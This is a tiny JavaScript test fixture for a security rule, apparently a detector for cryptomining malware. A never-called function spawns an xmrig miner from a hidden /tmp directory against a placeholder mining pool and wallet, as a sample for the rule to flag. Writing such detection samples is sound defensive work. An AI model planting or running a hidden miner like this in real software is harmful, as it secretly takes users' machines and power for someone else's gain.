// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const { spawn } = require('child_process');
function never() {
  spawn('/tmp/.x/xmrig', ['-o', 'stratum+tcp://pool.example.invalid:3333', '-u', 'WALLET', '--donate-level', '1']);
}
module.exports = { never };
